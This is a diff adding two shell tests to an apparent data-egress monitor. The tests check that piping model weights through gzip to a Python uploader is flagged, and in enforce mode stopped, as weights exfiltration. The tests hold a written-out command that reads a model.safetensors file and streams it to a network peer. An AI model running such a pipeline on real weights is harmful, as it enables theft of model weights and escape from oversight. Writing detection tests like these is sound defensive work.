@@ -149,3 +149,32 @@ tainted() {
 	ch_run stream weights $((32 << 10)) monitor --propagate-min-bytes 16KiB
 	tainted monitor unix
 }
+
+# ---- a middle stage that never sends ------------------------------------------
+
+# cat w | gzip | uploader: gzip never sends; it is tainted in the kernel at
+# its first write after its input crossed the threshold, and the uploader by
+# the weights-shaped (compressed) bytes gzip writes
+@test "localbytes: monitor: cat weights | gzip | uploader: both stages tainted by bytes" {
+	start_sink tcp
+	start_agent
+	run in_cg sh -c 'cat "$1" | gzip -1 | python3 "$2" --stdin --host "$3" --port "$4"' sh \
+		"$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
+	[ "$status" -eq 0 ]
+	run alert_wait rule=weights-egress process.comm=python3 taint.chain.0.comm=cat \
+		taint.chain.0.via=read taint.chain.1.comm=gzip taint.chain.1.via=pipe \
+		taint.chain.2.via=pipe taint.depth=2 taint.sources.0.path="$W/model.safetensors"
+	[ "$status" -eq 0 ]
+}
+
+@test "localbytes: enforce: cat weights | gzip | uploader is stopped at the budget" {
+	start_sink tcp
+	start_agent --mode enforce
+	run in_cg sh -c 'cat "$1" | gzip -1 | python3 "$2" --stdin --host "$3" --port "$4"' sh \
+		"$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
+	[ "$status" -ne 0 ]
+	[ "$(sink_bytes)" -le "$BUDGET" ]
+	run alert_wait action~ed process.comm=python3 taint.chain.1.comm=gzip \
+		taint.sources.0.path="$W/model.safetensors"
+	[ "$status" -eq 0 ]
+}
